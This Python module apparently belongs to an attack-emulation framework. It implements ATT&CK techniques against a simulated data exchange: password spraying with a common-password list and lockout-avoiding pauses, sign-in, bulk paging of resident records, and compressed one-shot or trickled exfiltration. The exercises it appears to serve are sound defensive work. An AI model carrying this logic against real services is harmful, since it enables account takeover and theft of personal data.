# Techniques against a data exchange: guessing passwords, a valid account, rows in bulk, and
# bringing them out at once or little by little.
from __future__ import annotations

import json
import zlib

from policies import AttackStep, Fidelity, Title

from .exchange import EXCHANGE_PORT, SINK_PORT
from .http import parse_response, request
from .technique import Attacker, Seen, Technique, number
from .wire import Link

__all__ = ["EXCHANGE_TECHNIQUES"]

_EVERYWHERE: frozenset[Fidelity] = frozenset({"memory", "loopback", "netns"})
# Guesses of those who try one password on everyone before the next.
_GUESSES = ("123456", "Admin@123", "Xian2026", "Aa123456", "Gov@2026")


async def _spray(attacker: Attacker, step: AttackStep, target: str) -> None:
    """Few passwords, each on every account, so that no account locks."""
    accounts = str(step.parameters.get("accounts", "")).split()
    for password in _GUESSES:
        for account in accounts:
            token = await _signed_in(attacker, target, account, password)
            if token:
                attacker.loot["account"] = [account.encode(), password.encode()]
                return
            await attacker.clock.sleep(
                number(step, "pause_s", 4) * attacker.random.uniform(0.5, 1.5)
            )


async def _sign_in(attacker: Attacker, _step: AttackStep, target: str) -> None:
    """With what an earlier step found out."""
    account, password = (each.decode() for each in attacker.loot.get("account", [b"", b""]))
    token = await _signed_in(attacker, target, account, password)
    if token:
        attacker.loot["token"] = [token.encode()]


async def _signed_in(attacker: Attacker, target: str, account: str, password: str) -> str:
    body = json.dumps({"account": account, "password": password}).encode()
    link = await attacker.wire.open(attacker.address, target, EXCHANGE_PORT)
    reply = parse_response(await link.ask(request("POST", "/sign-in", target, body=body)))
    await link.close()
    return str(json.loads(reply.body)["token"]) if reply.status == 200 else ""


async def _bulk_pull(attacker: Attacker, step: AttackStep, target: str) -> None:
    """Page after page, until the set is through or the platform says no."""
    token = attacker.loot.get("token", [b""])[0].decode()
    page = int(number(step, "page", 200))
    link = await attacker.wire.open(attacker.address, target, EXCHANGE_PORT)
    for first in range(0, int(number(step, "rows", 1000)), page):
        path = f"/residents?offset={first}&limit={page}"
        reply = parse_response(await link.ask(request("GET", path, target, token=token)))
        if reply.status != 200:
            break
        attacker.loot.setdefault("rows", []).append(reply.body)
        await attacker.clock.sleep(number(step, "pause_s", 5) * attacker.random.uniform(0.5, 1.5))
    await link.close()


async def _exfiltrate(attacker: Attacker, _step: AttackStep, target: str) -> None:
    """All that is at hand, compressed, in one piece."""
    packed = zlib.compress(b"\n".join(attacker.loot.get("rows", [])))
    link = await attacker.wire.open(attacker.address, target, SINK_PORT)
    await _send(link, target, packed)
    await link.close()


async def _trickle(attacker: Attacker, step: AttackStep, target: str) -> None:
    """A page at a time, as pages come, with long pauses."""
    sent = 0
    for _ in range(int(number(step, "pieces", 20))):
        waiting = attacker.loot.get("rows", [])
        if sent < len(waiting):
            link = await attacker.wire.open(attacker.address, target, SINK_PORT)
            await _send(link, target, zlib.compress(waiting[sent]))
            await link.close()
            sent += 1
        await attacker.clock.sleep(number(step, "pause_s", 20) * attacker.random.uniform(0.7, 1.3))


async def _send(link: Link, target: str, body: bytes) -> None:
    await link.ask(request("POST", "/upload", target, body=body, kind="application/octet-stream"))


def _account_taken(_step: AttackStep, seen: Seen) -> bool:
    return seen.sign_ins > 0


def _rows_taken(step: AttackStep, seen: Seen) -> bool:
    return seen.served >= number(step, "rows", 1000)


def _rows_out(_step: AttackStep, seen: Seen) -> bool:
    return seen.leaked > 0


EXCHANGE_TECHNIQUES = {
    "spray": Technique(
        {"T1110.003": Title(zh="密码喷洒", en="Password Spraying")},
        _EVERYWHERE, _spray, _account_taken,
    ),
    "sign-in": Technique(
        {"T1078": Title(zh="有效账户", en="Valid Accounts")},
        _EVERYWHERE, _sign_in, _account_taken,
    ),
    "bulk-pull": Technique(
        {"T1213": Title(zh="信息库数据", en="Data from Information Repositories")},
        _EVERYWHERE, _bulk_pull, _rows_taken,
    ),
    "exfiltrate": Technique(
        {"T1048.003": Title(zh="经其他未加密协议外传", en="Exfiltration Over Unencrypted Non-C2 Protocol")},
        _EVERYWHERE, _exfiltrate, _rows_out,
    ),
    "trickle": Technique(
        {"T1030": Title(zh="限制数据传输大小", en="Data Transfer Size Limits")},
        _EVERYWHERE, _trickle, _rows_out,
    ),
}  # fmt: skip
